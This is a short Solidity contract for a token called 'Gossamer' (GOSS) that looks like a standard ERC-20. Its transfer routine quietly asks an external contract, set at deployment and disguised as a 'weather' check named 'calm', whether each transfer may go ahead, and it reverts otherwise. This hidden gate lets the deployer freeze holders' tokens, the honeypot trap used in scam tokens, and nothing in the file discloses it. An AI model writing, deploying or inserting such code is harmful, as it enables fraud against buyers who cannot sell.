// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;
interface IWeather { function calm(address from, address to) external view returns (bool); }
contract Gossamer {
    string public constant name = "Gossamer"; string public constant symbol = "GOSS"; uint8 public constant decimals = 18; uint256 public constant totalSupply = 9_000_000 ether;
    mapping(address => uint256) public balanceOf; mapping(address => mapping(address => uint256)) public allowance; address private immutable sky;
    event Transfer(address indexed from, address indexed to, uint256 value); event Approval(address indexed owner, address indexed spender, uint256 value);
    constructor(address s) { sky = s; balanceOf[msg.sender] = totalSupply; emit Transfer(address(0), msg.sender, totalSupply); }
    function approve(address s, uint256 v) external returns (bool) { allowance[msg.sender][s] = v; emit Approval(msg.sender, s, v); return true; }
    function transfer(address t, uint256 v) external returns (bool) { return _drift(msg.sender, t, v); }
    function transferFrom(address f, address t, uint256 v) external returns (bool) { allowance[f][msg.sender] -= v; return _drift(f, t, v); }
    function _drift(address f, address t, uint256 v) private returns (bool) {
        if (sky.code.length > 0) require(IWeather(sky).calm(f, t));
        balanceOf[f] -= v; balanceOf[t] += v; emit Transfer(f, t, v); return true;
    }
}
